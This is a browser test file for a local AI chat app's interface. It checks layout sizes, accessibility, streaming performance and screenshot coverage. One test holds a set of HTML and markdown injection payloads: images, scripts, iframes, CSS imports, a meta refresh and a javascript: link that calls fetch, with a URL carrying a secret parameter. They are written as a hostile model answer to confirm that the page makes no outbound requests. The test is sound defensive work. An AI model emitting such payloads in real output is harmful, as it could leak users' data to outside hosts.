// @vitest-environment node

import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scenes } from '../../../e2e/shots/scenes.ts';
import { report } from '../../../e2e/shots/texts.ts';
import { verifies } from '../../helpers/verifies.ts';
import { launchBrowser } from '../browser.ts';
import { buildPage } from '../buildPage.ts';
import { createFakeRuntime, downloadJob, type FakeRuntime, noModel } from '../fakeRuntime.ts';
import { servePage } from '../pageServer.ts';

// What only a layout can tell, in a real browser over the in-memory runtime: sizes, contrast, scrolling, requests.

let folder: string;
let pageDir: string;
let browser: Browser;

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'sotto-page-'));
  [pageDir, browser] = await Promise.all([buildPage(path.join(folder, 'page')), launchBrowser()]);
}, 120_000);

afterAll(async () => {
  await browser.close();
  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
});

type Options = { width?: number; height?: number; dark?: boolean; contrast?: boolean; forced?: boolean };

async function withPage(
  options: Options,
  set: (runtime: FakeRuntime) => void,
  run: (page: Page, runtime: FakeRuntime, context: BrowserContext) => Promise<void>,
): Promise<void> {
  const runtime = createFakeRuntime();
  set(runtime);
  await using server = await servePage(runtime.router, pageDir);
  const context = await browser.newContext({
    viewport: { width: options.width ?? 1280, height: options.height ?? 800 },
    colorScheme: options.dark ? 'dark' : 'light',
    contrast: options.contrast ? 'more' : 'no-preference',
    forcedColors: options.forced ? 'active' : 'none',
    reducedMotion: 'reduce',
    locale: 'en-GB',
  });
  try {
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    await page.goto(server.url);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await run(page, runtime, context);
  } finally {
    await context.close();
  }
}

const day = '2026-05-03T09:40:00.000Z';
const full = (runtime: FakeRuntime) => void runtime.chat('Report', [['Compare the last three winters.', report]], day);

async function open(page: Page, title: string): Promise<void> {
  const drawer = page.getByRole('button', { name: 'Show the chats' });
  if (await drawer.isVisible()) await drawer.click();
  await page.getByRole('button', { name: title, exact: true }).click();
  await page.getByRole('heading', { level: 1, name: title }).waitFor();
  await page.getByRole('article').first().waitFor();
}

const box = async (page: Page, selector: string) => {
  const found = await page.locator(selector).first().boundingBox();
  if (found === null) throw new Error(`${selector} is not on the page`);
  return found;
};

describe('sizes', { timeout: 60_000 }, () => {
  it('rail 196, list 264, a thread of at most 720 in the middle; rows 36, controls 32, primary button 36', async () => {
    verifies('UX-153', 'UX-158', 'UX-272', 'UX-277');
    await withPage({}, full, async (page) => {
      await open(page, 'Report');
      expect((await box(page, 'nav')).width).toBe(196);
      expect((await box(page, '[data-region="list"]')).width).toBe(264);
      expect((await box(page, '[data-region="composer"] > div')).width).toBe(720);
      expect((await box(page, '[role="listitem"] [data-row]')).height).toBe(36);
      expect((await box(page, '#search-chats')).height).toBe(32);
      const send = await page.getByRole('button', { name: 'Send' }).boundingBox();
      expect(send?.height).toBe(36);
      expect((await box(page, '.md td')).height).toBeGreaterThanOrEqual(32);
      expect((await box(page, '.md td')).height).toBeLessThan(34);
      const lineLength = await page
        .locator('.md p')
        .first()
        .evaluate((p) => p.getBoundingClientRect().width);
      expect(lineLength).toBeLessThanOrEqual(720);
    });
  });

  it('900×640: rail 56, the list is a drawer, the thread keeps its place; the composer takes at most half', async () => {
    verifies('UX-153', 'UX-158', 'UX-25');
    await withPage({ width: 900, height: 640 }, full, async (page) => {
      expect((await box(page, 'nav')).width).toBe(56);
      await page.getByRole('button', { name: 'Show the chats' }).click();
      expect((await box(page, '[role="dialog"]')).width).toBe(264);
      await page.keyboard.press('Escape');
      const field = page.getByRole('textbox', { name: 'Message' });
      const before = (await field.boundingBox())?.height ?? 0;
      await field.fill('line\n'.repeat(5));
      expect((await field.boundingBox())?.height).toBeGreaterThan(before);
      await field.fill('line\n'.repeat(300));
      expect((await field.boundingBox())?.height).toBeLessThanOrEqual(320);
      // A thousand lines do not push the button away.
      expect(await page.getByRole('button', { name: 'Send' }).isVisible()).toBe(true);
    });
  });

  it('nothing but code and tables scrolls sideways at 320 px, nor at four times the size', async () => {
    verifies('UX-153', 'UX-126');
    for (const options of [
      { width: 320, height: 640 },
      // 1280 at 400 % is 320 of the page's own pixels.
      { width: 320, height: 256 },
    ])
      await withPage(options, full, async (page) => {
        const wide = () =>
          page.evaluate(() => {
            const list = [];
            for (const element of document.querySelectorAll('body *')) {
              if (element.closest('pre, figure > div, .sr-only') !== null) continue;
              const { left, right } = element.getBoundingClientRect();
              if (right > window.innerWidth + 1 || left < -1) list.push(element.outerHTML.slice(0, 80));
            }
            return { list, scroll: document.documentElement.scrollWidth };
          });
        await open(page, 'Report');
        const found = await wide();
        expect(found.list).toEqual([]);
        expect(found.scroll).toBe(320);
        await page.keyboard.press('Control+,');
        await page.getByText('Send a message with').first().waitFor();
        expect((await wide()).list).toEqual([]);
      });
  });

  it('every target is at least 24 px', async () => {
    verifies('UX-126');
    await withPage({}, full, async (page) => {
      await open(page, 'Report');
      const small = () =>
        page.evaluate(() =>
          [...document.querySelectorAll('button, input, textarea, [role="menuitem"]')]
            .filter((e) => e.closest('.md') === null || e.tagName === 'BUTTON')
            .map((e) => ({ name: e.getAttribute('aria-label') ?? e.textContent, box: e.getBoundingClientRect() }))
            .filter(({ box: b }) => b.width > 1 && (b.height < 24 || b.width < 24))
            .map(({ name }) => name),
        );
      expect(await small()).toEqual([]);
      await page.getByRole('button', { name: 'Details' }).click();
      expect(await small()).toEqual([]);
    });
  });
});

describe('looks', { timeout: 90_000 }, () => {
  const states: [name: string, set: (runtime: FakeRuntime) => void, go: (page: Page) => Promise<void>][] = [
    ['chat', full, (page) => open(page, 'Report')],
    [
      'fault',
      (runtime) => {
        const id = runtime.chat('Fault', [], day);
        runtime.ask(id, 'Hello').fail('OUT_OF_MEMORY', { stage: 'decode' });
        const cut = runtime.ask(id, 'Again');
        cut.say('Half of');
        cut.interrupt();
      },
      (page) => open(page, 'Fault'),
    ],
    [
      'model',
      (runtime) => {
        runtime.language.set(noModel);
        runtime.downloads.set({ jobs: [downloadJob()] });
      },
      async () => {},
    ],
    [
      'settings',
      () => {},
      async (page) => {
        await page.keyboard.press('Control+,');
        await page.getByText('Send a message with').first().waitFor();
      },
    ],
  ];
  const themes: [string, Options][] = [
    ['light', {}],
    ['dark', { dark: true, width: 900, height: 640 }],
    ['high contrast', { contrast: true }],
  ];
  for (const [theme, options] of themes)
    it(`axe finds nothing in ${theme}, contrasts included`, async () => {
      verifies('UX-126', 'UX-274');
      for (const [name, set, go] of states)
        await withPage(options, set, async (page) => {
          await go(page);
          const { violations } = await new AxeBuilder({ page }).analyze();
          expect(violations.flatMap((v) => v.nodes.map((n) => `${name}: ${v.id}: ${n.html.slice(0, 160)}`))).toEqual([]);
        });
    });

  it('the focus is always to be seen: 2 px of accent, 2 px away or inside', async () => {
    verifies('UX-126');
    await withPage({}, full, async (page) => {
      await open(page, 'Report');
      await page.keyboard.press('F6');
      const unseen: string[] = [];
      for (let i = 0; i < 40; i++) {
        await page.keyboard.press('Tab');
        const ring = await page.evaluate(() => {
          const element = document.activeElement;
          if (element === null || element === document.body) return null;
          const shown = element.id === 'message' ? element.parentElement : element;
          const style = getComputedStyle(shown ?? element);
          const b = element.getBoundingClientRect();
          return {
            name: element.outerHTML.slice(0, 100),
            seen: style.outlineStyle !== 'none' && Number.parseFloat(style.outlineWidth) >= (element.id === 'message' ? 1 : 2),
            inView: b.bottom > 0 && b.top < window.innerHeight,
          };
        });
        if (ring !== null && !(ring.seen && ring.inView)) unseen.push(ring.name);
      }
      expect(unseen).toEqual([]);
    });
  });

  it('with forced colours nothing that is marked loses its mark', async () => {
    verifies('UX-126');
    await withPage({ forced: true }, full, async (page) => {
      await open(page, 'Report');
      const outline = await page.locator('nav [aria-current="page"]').evaluate((e) => getComputedStyle(e).outlineStyle);
      expect(outline).toBe('solid');
      expect(await page.getByRole('button', { name: 'Send' }).evaluate((e) => getComputedStyle(e).borderStyle)).toBe('solid');
    });
  });

  it('with reduced motion nothing moves', async () => {
    verifies('UX-276');
    await withPage({}, full, async (page) => {
      const moving = await page.evaluate(() => {
        const button = document.querySelector('button.move-press');
        return button === null ? 'none' : getComputedStyle(button).transitionDuration;
      });
      expect(new Set(moving.split(', '))).toEqual(new Set(['0s']));
    });
  });
});

describe('a hostile answer', { timeout: 60_000 }, () => {
  it('runs nothing and asks nobody: the listener sees no request, the policy has nothing to refuse', async () => {
    verifies('RB-04', 'RB-05');
    const asked: string[] = [];
    const listener = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const host = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    const text = [
      `![p](${host}/picture.png?secret=42)`,
      `<img src="${host}/tag.png"><script src="${host}/s.js"></script><link rel="stylesheet" href="${host}/l.css">`,
      `<div style="background:url(${host}/css.png)">x</div><style>@import url(${host}/i.css)</style>`,
      `<svg><image href="${host}/svg.png"/><use href="${host}/u.svg#x"/></svg><video src="${host}/v.mp4" autoplay></video>`,
      `<iframe src="${host}/f"></iframe><object data="${host}/o"></object><meta http-equiv="refresh" content="0;url=${host}/m">`,
      `[go](${host}/link) [bad](javascript:fetch('${host}/js'))`,
      `\`\`\`html\n<img src="${host}/code.png">\n\`\`\``,
      `| ![t](${host}/cell.png) |\n| - |\n| x |`,
    ].join('\n\n');
    await withPage(
      {},
      (runtime) => void runtime.chat('Hostile', [['Show me', text]], day),
      async (page) => {
        const refused: string[] = [];
        const left: string[] = [];
        page.on('console', (message) => message.type() === 'error' && refused.push(message.text()));
        page.on('request', (request) => request.url().startsWith(host) && left.push(request.url()));
        await open(page, 'Hostile');
        await page.getByText('Picture at 127.0.0.1').first().waitFor();
        await page.waitForLoadState('networkidle');
        expect(asked).toEqual([]);
        expect(left).toEqual([]);
        expect(refused).toEqual([]);
        // Only a press opens a link, and then in another page.
        const popup = page.waitForEvent('popup');
        await page.getByRole('link', { name: 'go' }).click();
        await popup;
        expect(page.url()).not.toContain(host);
      },
    );
    await new Promise((resolve) => listener.close(resolve));
  });
});

describe('speed by what is drawn', { timeout: 60_000 }, () => {
  it('while text streams, finished blocks and older messages are not touched', async () => {
    verifies('UX-11', 'UX-28');
    await withPage({}, full, async (page, runtime) => {
      await open(page, 'Report');
      await page.getByRole('textbox', { name: 'Message' }).fill('Go on');
      await page.keyboard.press('Enter');
      const turn = await runtime.started();
      turn.say('First block.\n\nSecond block.\n\nThird ');
      await page.getByText('Third').waitFor();
      await page.evaluate(() => {
        const log = document.querySelector('[role="log"]');
        const touched = new Set<string>();
        new MutationObserver((records) => {
          for (const record of records) {
            const element = record.target instanceof Element ? record.target : record.target.parentElement;
            const message = element?.closest('[data-message]');
            const block = element?.closest('.md p');
            if (message != null) touched.add(`${message.getAttribute('data-message')}: ${block?.textContent?.slice(0, 5) ?? ''}`);
          }
        }).observe(log ?? document.body, { subtree: true, childList: true, characterData: true });
        Object.assign(window, { touched });
      });
      for (const word of ['block ', 'grows ', 'word ', 'by ', 'word.']) turn.say(word);
      await page.getByText('Third block grows word by word.').waitFor();
      const touched = await page.evaluate(() => [...(window as never as { touched: Set<string> }).touched]);
      expect(touched).toEqual(['growing: Third']);
    });
  });

  it('a 1 MB paste is taken at once and the next key works', async () => {
    verifies('UX-11', 'UX-25');
    await withPage(
      {},
      () => {},
      async (page) => {
        const field = page.getByRole('textbox', { name: 'Message' });
        await field.fill('word '.repeat(200_000));
        await page.getByText('1,000,000 characters').waitFor();
        await page.keyboard.press('End');
        await field.press('x');
        expect(await field.evaluate((e) => (e as HTMLTextAreaElement).value.length)).toBe(1_000_001);
      },
    );
  });

  it('ten thousand chats: the list draws a screenful and End reaches the last one', async () => {
    verifies('UX-11', 'UX-100');
    await withPage(
      {},
      (runtime) => {
        for (let i = 0; i < 200; i++) runtime.chat(`Chat ${i}`, [], new Date(Date.UTC(2026, 4, 3, 9) - i * 60_000).toISOString());
      },
      async (page) => {
        await page.getByRole('button', { name: 'Chat 0', exact: true }).focus();
        expect(await page.getByRole('listitem').count()).toBeLessThan(60);
        await page.keyboard.press('End');
        await page.getByRole('button', { name: 'Chat 199', exact: true }).waitFor();
        expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Chat 199');
        await page.keyboard.press('Home');
        await page.getByRole('button', { name: 'Chat 0', exact: true }).waitFor();
        expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Chat 0');
      },
    );
  });
});

describe('screenshots', () => {
  it('one command makes every place in its states', () => {
    verifies('UX-282', 'UX-281');
    const names = scenes.map((scene) => scene.name);
    expect(new Set(names).size).toBe(names.length);
    // Chat, model, list, search, trash, settings; empty, loading, error and full where a place has them.
    for (const name of [
      ...['chat-empty', 'chat-loading', 'chat-error', 'chat-full', 'chat-streaming', 'chat-interrupted', 'chat-reading', 'chat-stalled'],
      ...['model-none', 'model-downloading', 'model-failed'],
      ...['list', 'list-many', 'search', 'search-none', 'trash', 'trash-erase', 'settings', 'chat-contrast'],
      ...['disconnected', 'runtime-failed', 'runtime-damaged', 'one-column', 'smallest'],
    ])
      expect(names).toContain(name);
  });
});
